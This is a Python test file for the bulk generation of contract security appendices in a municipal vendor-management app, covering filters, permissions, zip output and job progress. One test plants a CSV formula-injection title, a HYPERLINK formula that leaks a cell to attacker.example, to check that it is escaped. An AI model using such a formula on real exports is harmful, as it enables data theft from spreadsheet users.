"""Bulk generation: which engagements, the job and its progress, the zip, the pages and permissions."""

from __future__ import annotations

import csv
import hashlib
import io
import zipfile
from datetime import date, timedelta
from urllib.parse import quote

import pytest
from sqlalchemy import func, select, text

from tests.documents.conftest import add_gap_requirement, read_docx, table_rows
from vendorguard.auth.roles import Role
from vendorguard.core.errors import DomainError
from vendorguard.core.timeutil import utcnow
from vendorguard.documents import bulk, bulk_worker, services
from vendorguard.documents.models import BulkJob, BulkStatus, ContractDocument
from vendorguard.extensions import db
from vendorguard.storage import StorageError, get_storage


def documents_count() -> int:
    return db.session.scalar(select(func.count(ContractDocument.id)))


def engagement_ids(user, **criteria) -> list[int]:
    return [
        row[0].id
        for row in db.session.execute(bulk.candidates(user, bulk.BulkFilter(**criteria))).unique()
    ]


@pytest.fixture
def year_2027(make):
    """Contracts around fiscal year 2027 (1 April 2027 – 31 March 2028) in two departments."""
    shimin, zeimu = make.department("市民課"), make.department("税務課")
    made = {
        "fy2026_last_day": make.engagement(
            department=shimin, starts_on=date(2027, 3, 31), ends_on=date(2028, 3, 31)
        ),
        "first_day": make.engagement(
            department=shimin,
            starts_on=date(2027, 4, 1),
            ends_on=date(2028, 3, 31),
            title="住民記録システム運用保守業務委託",
            contract_number="R9-00001",
        ),
        "last_day": make.engagement(
            department=zeimu,
            starts_on=date(2028, 3, 31),
            ends_on=date(2029, 3, 31),
            title="税務システム保守業務委託",
            contract_number="R9-00002",
        ),
        "fy2028": make.engagement(
            department=zeimu, starts_on=date(2028, 4, 1), ends_on=date(2029, 3, 31)
        ),
        "archived": make.engagement(
            department=shimin,
            starts_on=date(2027, 6, 1),
            ends_on=date(2028, 3, 31),
            archived_at=utcnow(),
        ),
    }
    made["shimin"], made["zeimu"] = shimin, zeimu
    return made


def test_fiscal_year_department_and_selection(make, year_2027):
    procurement = make.user(Role.PROCUREMENT)
    assert engagement_ids(procurement, starting_fy=2027) == [
        year_2027["first_day"].id,
        year_2027["last_day"].id,
    ]
    assert engagement_ids(procurement, starting_fy=2027, department_id=year_2027["zeimu"].id) == [
        year_2027["last_day"].id
    ]
    assert engagement_ids(
        procurement, engagement_ids=(year_2027["fy2028"].id, year_2027["archived"].id)
    ) == [year_2027["fy2028"].id]  # archived engagements get no document
    # An officer only ever gets their own department's engagements, whatever the filter says.
    officer = make.user(Role.OFFICER, department=year_2027["zeimu"])
    assert engagement_ids(officer, starting_fy=2027) == [year_2027["last_day"].id]
    assert engagement_ids(make.user(Role.AUDITOR), starting_fy=2027) == []


def test_fiscal_year_labels():
    assert bulk.era_year(2027) == "令和9年度" and bulk.era_year(2019) == "平成31年度"
    assert bulk.fiscal_year_choices(date(2027, 3, 31)) == [2024, 2025, 2026, 2027, 2028]


def test_create_job_refuses_what_the_user_may_not_do(app, make, year_2027, ja):
    officer = make.user(Role.OFFICER, department=year_2027["zeimu"])
    limit = app.config["BULK_MAX_DOCUMENTS"]
    cases = [
        (
            bulk.BulkFilter(engagement_ids=(year_2027["first_day"].id,)),
            "権限がない",
        ),  # another department's
        (bulk.BulkFilter(engagement_ids=()), "1件以上選んでください"),
        (bulk.BulkFilter(starting_fy=2030), "条件に合う業務委託がありません"),
        (bulk.BulkFilter(starting_fy=2027, date_style="shouwa"), "日付の表記"),
    ]
    for flt, words in cases:
        with pytest.raises(DomainError) as caught:
            bulk.create_job(db.session, officer, flt, limit)
        assert words in caught.value.message
    with pytest.raises(DomainError, match="一度に作成できるのは1件まで"):
        bulk.create_job(
            db.session, make.user(Role.PROCUREMENT), bulk.BulkFilter(starting_fy=2027), 1
        )
    job = bulk.create_job(db.session, officer, bulk.BulkFilter(starting_fy=2027), limit)
    assert (job.total, job.department_id, job.status) == (
        1,
        year_2027["zeimu"].id,
        BulkStatus.QUEUED,
    )
    assert job.filename == f"情報セキュリティに関する特記事項_令和9年度_一括{job.id}.zip"


def test_zip_names_are_utf8_flagged_and_unique():
    buffer = io.BytesIO()
    collector = bulk.ZipCollector(buffer)
    when = utcnow()
    first = collector.add("情報セキュリティに関する特記事項_R9-00001_v1.docx", b"one", when)
    second = collector.add("情報セキュリティに関する特記事項_R9-00001_v1.docx", b"two", when)
    collector.add_summary(
        [bulk.SummaryRow(True, "R9-00001", "住民記録", "市民課", "但馬情報", 1, first, "ab")], when
    )
    collector.close()
    assert second == "情報セキュリティに関する特記事項_R9-00001_v1(2).docx"
    archive = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    for info in archive.infolist():
        assert info.flag_bits & 0x800, info.filename  # Windows Explorer reads the name as UTF-8
    assert [info.filename for info in archive.infolist()] == [first, second, "作成結果.csv"]
    # The raw central directory carries the names in UTF-8, not in CP437 or Shift_JIS.
    assert "作成結果.csv".encode() in buffer.getvalue()
    summary = archive.read("作成結果.csv").decode("utf-8")
    assert summary.startswith("\ufeff結果,契約番号,件名")  # BOM: Excel opens it as UTF-8


def test_summary_csv_never_carries_a_live_formula(
    app, client, login_as, make, bulk_world, bulk_sync
):
    """Issue 13 finding 3: a title typed as a formula comes out as text in 作成結果.csv."""
    bulk_world["plain"].title = '=HYPERLINK("http://attacker.example/?"&A1,"請求書")'
    bulk_world["plain"].contract_number = "+R9-00003"
    db.session.commit()
    login_as(make.user(Role.PROCUREMENT))
    post_bulk(client, engagement_ids=[bulk_world["plain"].id], date_style="wareki")
    job = db.session.scalars(select(BulkJob)).one()
    archive = zipfile.ZipFile(io.BytesIO(client.get(f"/documents/bulk/{job.id}/download").data))
    rows = list(csv.reader(io.StringIO(archive.read("作成結果.csv").decode("utf-8-sig"))))
    assert rows[1][:3] == [
        "作成",
        "'+R9-00003",
        '\'=HYPERLINK("http://attacker.example/?"&A1,"請求書")',
    ]


@pytest.fixture
def bulk_world(app, make, shipped_catalog, year_2027):
    """Next year's contracts: one plain, one with My Number and a subcontractor, one with a gap."""
    add_gap_requirement()
    first, last = year_2027["first_day"], year_2027["last_day"]
    first.handles_personal_info = first.handles_my_number = first.subcontracting_allowed = True
    last.segment_internet = True  # TST-01 applies and no clause covers it
    db.session.commit()
    make.subcontractor(first, name="豊岡データ入力株式会社")
    plain = make.engagement(
        department=year_2027["shimin"],
        starts_on=date(2027, 5, 1),
        ends_on=date(2028, 3, 31),
        title="窓口案内業務委託",
        contract_number="R9-00003",
    )
    return {"my_number": first, "gap": last, "plain": plain, **year_2027}


def post_bulk(client, **data):
    data.setdefault("starting_fy", "2027")
    return client.post("/documents/bulk", data=data)


def test_bulk_page_generates_a_zip_and_lists_what_failed(
    app, client, login_as, make, bulk_world, bulk_sync
):
    procurement = make.user(Role.PROCUREMENT)
    login_as(procurement)
    page = client.get("/documents/bulk?starting_fy=2027").get_data(as_text=True)
    assert "住民記録システム運用保守業務委託" in page and "窓口案内業務委託" in page
    assert "作成する業務委託（3件）" in page
    ids = [bulk_world["my_number"].id, bulk_world["gap"].id, bulk_world["plain"].id]
    response = post_bulk(client, engagement_ids=ids, date_style="wareki")
    assert response.status_code == 302
    job = db.session.scalars(select(BulkJob)).one()
    assert response.headers["Location"].endswith(f"/documents/bulk/{job.id}")
    assert (job.status, job.total, job.done, job.failed) == (BulkStatus.DONE, 3, 2, 1)
    assert job.created_by_id == procurement.id and job.finished_at is not None
    assert job.errors[0]["arrangement_id"] == bulk_world["gap"].id and job.errors[0]["codes"] == [
        "TST-01"
    ]

    # Each appendix is also an ordinary new version of its engagement.
    documents = db.session.scalars(select(ContractDocument).order_by(ContractDocument.id)).all()
    assert [(d.arrangement_id, d.version) for d in documents] == [
        (bulk_world["my_number"].id, 1),
        (bulk_world["plain"].id, 1),
    ]
    assert all(d.created_by_id == procurement.id for d in documents)

    html = client.get(f"/documents/bulk/{job.id}").get_data(as_text=True)
    assert (
        "作成できなかった業務委託" in html
        and "TST-01" in html
        and "税務システム保守業務委託" in html
    )
    assert f"/catalog/coverage/{bulk_world['gap'].id}" in html  # where to fix it
    assert "ZIP ファイルをダウンロード" in html and "残りの1件をもう一度作成する" in html
    assert "js/bulk-progress.js" in html and "<script>" not in html

    download = client.get(f"/documents/bulk/{job.id}/download")
    assert download.status_code == 200 and download.mimetype == "application/zip"
    assert download.headers["Content-Disposition"].endswith(
        "filename*=UTF-8''" + quote(job.filename, safe="")
    )
    assert hashlib.sha256(download.data).hexdigest() == job.sha256
    archive = zipfile.ZipFile(io.BytesIO(download.data))
    names = [info.filename for info in archive.infolist()]
    assert names == [documents[0].filename, documents[1].filename, "作成結果.csv"]
    assert all(info.flag_bits & 0x800 for info in archive.infolist())
    storage = get_storage(app)
    for document in documents:  # the zip holds exactly the stored versions
        assert archive.read(document.filename) == storage.read_bytes(document.storage_key)
    facts = {row[0]: row[1] for row in table_rows(archive.read(documents[0].filename))[0]}
    assert facts["契約番号"] == "R9-00001"
    rows = list(csv.reader(io.StringIO(archive.read("作成結果.csv").decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == [
        "作成",
        "作成",
        "作成できず",
    ]  # in order of the start date
    assert rows[3][1] == "R9-00002" and "TST-01" in rows[3][8]


def test_retry_after_the_gap_is_waived_makes_only_the_rest(
    app, client, login_as, make, bulk_world, bulk_sync
):
    from vendorguard.catalog import services as catalog
    from vendorguard.catalog.models import Requirement

    login_as(make.user(Role.PROCUREMENT))
    post_bulk(client, engagement_ids=[bulk_world["my_number"].id, bulk_world["gap"].id])
    first = db.session.scalars(select(BulkJob)).one()
    requirement = db.session.scalars(select(Requirement).where(Requirement.code == "TST-01")).one()
    catalog.record_waiver(
        db.session,
        bulk_world["gap"],
        requirement,
        "インターネット接続系では作業しない",
        make.user(Role.ADMIN),
    )
    db.session.commit()
    # The retry button posts the remaining ids with the first job's filter.
    response = post_bulk(client, engagement_ids=[bulk_world["gap"].id])
    second = db.session.scalars(select(BulkJob).where(BulkJob.id != first.id)).one()
    assert response.status_code == 302 and (second.done, second.failed) == (1, 0)
    document = db.session.get(ContractDocument, second.results[0]["document_id"])
    assert (
        document.arrangement_id == bulk_world["gap"].id
        and document.waivers[0]["requirement_code"] == "TST-01"
    )


def test_a_refused_request_keeps_the_choices(client, login_as, make, bulk_world, bulk_sync):
    login_as(make.user(Role.PROCUREMENT))
    response = post_bulk(client, date_style="western")  # nothing ticked
    html = response.get_data(as_text=True)
    assert response.status_code == 200 and "作成する業務委託を1件以上選んでください。" in html
    assert 'name="starting_fy" type="hidden" value="2027"' in html
    assert '<option selected value="western">' in html
    assert f'value="{bulk_world["plain"].id}" id="engagement-{bulk_world["plain"].id}" ' in html
    assert (
        f'value="{bulk_world["plain"].id}" id="engagement-{bulk_world["plain"].id}"  checked'
        not in html
    )
    response = post_bulk(client, engagement_ids=[bulk_world["plain"].id, bulk_world["archived"].id])
    html = response.get_data(as_text=True)
    assert "1件は、条件に合わないか、アーカイブされたか" in html
    assert f'id="engagement-{bulk_world["plain"].id}" checked' in html  # the tick survived
    assert db.session.scalar(select(func.count(BulkJob.id))) == 0 and documents_count() == 0


def test_background_thread_runs_the_job_with_its_own_session(
    app, client, login_as, make, bulk_world
):
    app.config["BULK_SYNC"] = False
    login_as(make.user(Role.PROCUREMENT))
    response = post_bulk(
        client, engagement_ids=[bulk_world["my_number"].id, bulk_world["plain"].id]
    )
    job_id = int(response.headers["Location"].rsplit("/", 1)[1])
    assert bulk_worker.wait(app, job_id, timeout=120)
    progress = client.get(f"/documents/bulk/{job_id}/progress").get_json()
    assert progress["status"] == "done" and progress["finished"] is True
    assert (progress["total"], progress["done"], progress["failed"], progress["percent"]) == (
        2,
        2,
        0,
        100,
    )
    assert progress["download_url"] == f"/documents/bulk/{job_id}/download"
    assert documents_count() == 2
    from vendorguard.audit.models import AuditEvent

    actors = set(
        db.session.scalars(
            select(AuditEvent.actor_label).where(AuditEvent.object_type == "contract_document")
        )
    )
    assert len(actors) == 1 and actors.pop().startswith(f"bulk:{job_id}:")


def test_progress_is_committed_every_n_documents(app, make, shipped_catalog, ja):
    department = make.department()
    for n in range(5):
        make.engagement(department=department, starts_on=date(2027, 4, 1 + n))
    job = bulk.create_job(db.session, None, bulk.BulkFilter(starting_fy=2027), 100)
    db.session.commit()
    seen = []

    def committed_progress(processed: int, total: int) -> None:
        with db.engine.connect() as other:  # another connection sees only what was committed
            seen.append(
                (
                    processed,
                    total,
                    *other.execute(
                        text("SELECT done, failed, status FROM bulk_job WHERE id = :id"),
                        {"id": job.id},
                    ).one(),
                )
            )

    bulk_worker.run(db.session, get_storage(app), job.id, every=2, on_progress=committed_progress)
    assert seen == [(2, 5, 2, 0, "running"), (4, 5, 4, 0, "running"), (5, 5, 5, 0, "running")]
    assert db.session.get(BulkJob, job.id).status == BulkStatus.DONE


def test_a_crash_marks_the_job_failed_and_keeps_what_was_made(
    app, make, shipped_catalog, ja, monkeypatch
):
    department = make.department()
    for n in range(3):
        make.engagement(department=department, starts_on=date(2027, 4, 1 + n))
    job = bulk.create_job(db.session, None, bulk.BulkFilter(starting_fy=2027), 100)
    db.session.commit()
    real = services.generate_appendix_with_data
    calls = []

    def flaky(*args, **kwargs):
        calls.append(1)
        if len(calls) == 2:
            raise RuntimeError("disk on fire")
        return real(*args, **kwargs)

    monkeypatch.setattr(services, "generate_appendix_with_data", flaky)
    bulk_worker.run_in_app(app, job.id)
    db.session.expire_all()
    job = db.session.get(BulkJob, job.id)
    assert job.status == BulkStatus.FAILED and "予期しないエラー" in job.errors[-1]["message"]
    assert documents_count() == 1 and job.finished_at is not None
    assert job.done == 1 and job.results[0]["arrangement_id"] == job.arrangement_ids[0]


def test_zip_storage_failure_fails_the_job_with_the_reason(
    app, make, shipped_catalog, ja, monkeypatch
):
    make.engagement(starts_on=date(2027, 4, 1))
    job = bulk.create_job(db.session, None, bulk.BulkFilter(starting_fy=2027), 100)
    db.session.commit()
    storage = get_storage(app)
    real_put = storage.put

    def put(key, fileobj, max_bytes=None):
        if key.startswith("bulk/"):
            raise StorageError("保存先に接続できませんでした。")
        return real_put(key, fileobj, max_bytes)

    monkeypatch.setattr(storage, "put", put)
    job = bulk_worker.run(db.session, storage, job.id)
    assert job.status == BulkStatus.FAILED and job.storage_key is None
    assert job.errors[-1]["message"] == "保存先に接続できませんでした。" and job.done == 1


def test_a_silent_job_is_shown_as_interrupted_with_a_way_to_finish(
    app, client, login_as, make, bulk_world
):
    procurement = make.user(Role.PROCUREMENT)
    job = bulk.create_job(db.session, procurement, bulk.BulkFilter(starting_fy=2027), 100)
    job.status, job.done = BulkStatus.RUNNING, 1
    job.results = [
        {
            "arrangement_id": job.arrangement_ids[0],
            "document_id": 1,
            "version": 1,
            "filename": "x.docx",
        }
    ]
    job.updated_at = utcnow() - timedelta(seconds=app.config["BULK_STALL_SECONDS"] + 5)
    db.session.commit()
    login_as(procurement)
    html = client.get(f"/documents/bulk/{job.id}").get_data(as_text=True)
    assert "処理が止まっています" in html and "残りの2件をもう一度作成する" in html
    assert f'name="engagement_ids" value="{job.arrangement_ids[0]}"' not in html
    assert client.get(f"/documents/bulk/{job.id}/progress").get_json()["stalled"] is True
    response = client.get(f"/documents/bulk/{job.id}/download", follow_redirects=True)
    assert "ZIP ファイルはまだできていません" in response.get_data(as_text=True)


def test_who_may_use_the_bulk_pages(app, client, login_as, make, bulk_world, bulk_sync):
    shimin_officer = make.user(Role.OFFICER, department=bulk_world["shimin"])
    login_as(shimin_officer)
    html = client.get("/documents/bulk?starting_fy=2027").get_data(as_text=True)
    assert (
        "窓口案内業務委託" in html and "税務システム保守業務委託" not in html
    )  # own department only
    post_bulk(client, engagement_ids=[bulk_world["plain"].id])
    own_job = db.session.scalars(select(BulkJob)).one()
    assert own_job.department_id == bulk_world["shimin"].id
    for url in (
        f"/documents/bulk/{own_job.id}",
        f"/documents/bulk/{own_job.id}/progress",
        f"/documents/bulk/{own_job.id}/download",
    ):
        assert client.get(url).status_code == 200, url
    client.post("/logout")
    login_as(make.user(Role.OFFICER, department=bulk_world["zeimu"]))
    for url in (
        f"/documents/bulk/{own_job.id}",
        f"/documents/bulk/{own_job.id}/progress",
        f"/documents/bulk/{own_job.id}/download",
    ):
        assert client.get(url).status_code == 403, url
    assert client.get("/documents/bulk/999999").status_code == 404
    client.post("/logout")
    for role in (Role.AUDITOR, Role.SNS_OWNER):
        login_as(make.user(role))
        assert client.get("/documents/bulk").status_code == 403
        assert client.post("/documents/bulk").status_code == 403
        client.post("/logout")
    login_as(make.user(Role.PROCUREMENT))  # every department: may follow every job
    assert client.get(f"/documents/bulk/{own_job.id}").status_code == 200


def test_bulk_page_runs_the_same_queries_for_5_and_500_engagements(
    client, login_as, make, count_queries
):
    from vendorguard.engagements.models import Engagement

    department, contractor = make.department(), make.contractor()
    user = make.user(Role.PROCUREMENT)
    login_as(user)

    def add(count: int, year: int) -> None:
        db.session.add_all(
            [
                Engagement(
                    department_id=department.id,
                    contractor_id=contractor.id,
                    title=f"業務{year}-{n}",
                    contract_number=f"B{year}-{n:05d}",
                    starts_on=date(year, 4, 1),
                    ends_on=date(year + 1, 3, 31),
                )
                for n in range(count)
            ]
        )
        db.session.commit()

    add(5, 2030)
    add(500, 2031)
    counts = []
    for year in (2030, 2031):
        with count_queries() as counter:
            response = client.get(f"/documents/bulk?starting_fy={year}")
        assert response.status_code == 200
        counts.append(counter.count)
    assert counts[0] == counts[1]
    assert "作成する業務委託（500件）" in response.get_data(as_text=True)


def test_appendix_bulk_command(app, make, bulk_world, tmp_path):
    output = tmp_path / "out" / "特記事項.zip"
    make.user(Role.PROCUREMENT, email="keiyaku@city.example.jp")
    runner = app.test_cli_runner()
    result = runner.invoke(
        args=[
            "vg",
            "appendix-bulk",
            "--fiscal-year",
            "2027",
            "--output",
            str(output),
            "--as-user",
            "keiyaku@city.example.jp",
        ]
    )
    assert result.exit_code == 2, (
        result.output
    )  # written, but one engagement could not be generated
    assert "TST-01" in result.output and "3件中 2件を作成" in result.output
    job = db.session.scalars(select(BulkJob)).one()
    data = output.read_bytes()
    assert hashlib.sha256(data).hexdigest() == job.sha256
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    assert len(names) == 3 and "作成結果.csv" in names
    assert (
        read_docx(zipfile.ZipFile(io.BytesIO(data)).read(names[0])).paragraphs[0].text
        == "情報セキュリティに関する特記事項"
    )

    result = runner.invoke(
        args=[
            "vg",
            "appendix-bulk",
            "--fiscal-year",
            "2027",
            "--department",
            bulk_world["shimin"].code,
            "--output",
            str(output),
        ]
    )
    assert result.exit_code == 0, result.output
    assert "2件中 2件を作成" in result.output
    result = runner.invoke(
        args=["vg", "appendix-bulk", "--fiscal-year", "2040", "--output", str(output)]
    )
    assert result.exit_code == 1 and "条件に合う業務委託がありません" in result.output
